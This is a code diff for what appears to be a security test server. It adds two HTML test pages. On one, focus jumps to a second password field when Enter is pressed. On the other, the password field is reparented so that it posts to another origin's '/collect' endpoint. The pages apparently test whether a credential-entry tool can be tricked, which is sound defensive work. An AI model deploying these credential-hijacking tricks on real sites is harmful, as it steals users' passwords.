@@ -154,6 +154,23 @@ function submitPage(path: string, self: string, other: string, isA: boolean): st
 <form id="g" method="post" action="${other}/collect"><label>New password <input id="pw2" name="pw" type="password" aria-label="New password"></label><button>Change</button></form>
 <script>document.getElementById("pw").addEventListener("input", () => document.getElementById("pw2").focus());</script>`,
       );
+    case "/submit-swap-key":
+      // Lets the Enter's keydown through to the field, then moves the focus to another password
+      // field before its keypress (which is what submits).
+      return page(
+        "Swap at the key",
+        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
+<form id="g" method="post" action="${other}/collect"><label>New password <input id="pw2" name="pw" type="password" aria-label="New password"></label><button>Change</button></form>
+<script>document.getElementById("pw").addEventListener("keydown", (e) => { if (e.key === "Enter") document.getElementById("pw2").focus(); });</script>`,
+      );
+    case "/submit-reparent":
+      // Once the secret is in, hands the field to another form (the form attribute), which posts elsewhere.
+      return page(
+        "Reparent",
+        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
+<form id="g" method="post" action="${other}/collect"><button>Other</button></form>
+<script>document.getElementById("pw").addEventListener("input", (e) => e.target.setAttribute("form", "g"));</script>`,
+      );
     case "/submit-frame":
       // Once the secret is in, moves the focus into the other origin's frame, whose password field takes it.
       return page(
